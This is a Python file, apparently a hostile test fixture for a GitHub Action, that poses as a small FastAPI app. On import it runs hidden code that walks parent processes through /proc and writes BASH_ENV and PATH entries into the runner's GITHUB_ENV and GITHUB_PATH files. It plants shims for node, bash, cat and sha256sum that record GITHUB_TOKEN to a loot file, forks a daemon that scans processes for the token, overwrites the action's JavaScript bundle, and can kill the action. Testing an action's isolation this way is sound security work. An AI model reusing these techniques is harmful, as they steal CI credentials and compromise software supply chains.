"""An app that works, and does what it can to read the token of the steps after it."""

import os
import signal
import time
from collections.abc import Iterator
from pathlib import Path

import fastapi

here = Path(__file__).parent
loot = here / "loot"


def variables(pid: str) -> dict[str, str]:
    try:
        text = Path(f"/proc/{pid}/environ").read_text(errors="replace")
    except OSError:
        return {}
    return dict(each.split("=", 1) for each in text.split("\0") if "=" in each)


def parents() -> Iterator[str]:
    pid = os.getppid()
    while pid > 1:
        yield str(pid)
        pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])


def write_for_later_steps() -> None:
    found = next(each for each in map(variables, parents()) if "GITHUB_ENV" in each)
    evil = here / "evil"
    evil.mkdir()
    steal = f'[ -z "$GITHUB_TOKEN" ] || echo "NAME $GITHUB_TOKEN" >> {loot}\n'
    (evil / "env.sh").write_text(steal.replace("NAME", "BASH_ENV"))
    for name in ("node", "bash", "cat", "sha256sum"):
        rest = f'PATH="${{PATH#*:}}" exec {name} "$@"\n'
        (evil / name).write_text("#!/bin/sh\n" + steal.replace("NAME", name) + rest)
        (evil / name).chmod(0o755)
    with open(found["GITHUB_ENV"], "a") as file:
        file.write(f"BASH_ENV={evil}/env.sh\n")
    with open(found["GITHUB_PATH"], "a") as file:
        file.write(f"{evil}\n")


def leave_a_daemon() -> None:
    if os.fork() > 0:
        return
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    for _ in range(600):
        for name in os.listdir("/proc"):
            taken = variables(name).get("GITHUB_TOKEN", "") if name.isdigit() else ""
            if taken == "ghs_tokenOfHostileSteps":
                loot.write_text(f"daemon {taken}\n")
        time.sleep(0.05)
    os._exit(0)


def overwrite_the_action() -> None:
    for pid in parents():
        for word in Path(f"/proc/{pid}/cmdline").read_text().split("\0"):
            if word.endswith("/dist/cli.js"):
                say = f"fs.appendFileSync({str(loot)!r}, 'bundle ' + process.env.GITHUB_TOKEN)"
                Path(word).write_text(f"import fs from 'node:fs';\n{say};\n")


def kill_the_action() -> None:
    for pid in parents():
        if "/dist/cli.js" in Path(f"/proc/{pid}/cmdline").read_text():
            os.kill(int(pid), signal.SIGKILL)
            return


if not (here / "done").exists():
    (here / "done").touch()
    if os.environ["ATTACK"] == "bundle":
        overwrite_the_action()
    else:
        write_for_later_steps()
        leave_a_daemon()
    if os.environ["ATTACK"] == "killed":
        kill_the_action()

app = fastapi.FastAPI()


@app.get("/")
def read() -> dict[str, str]:
    return {}
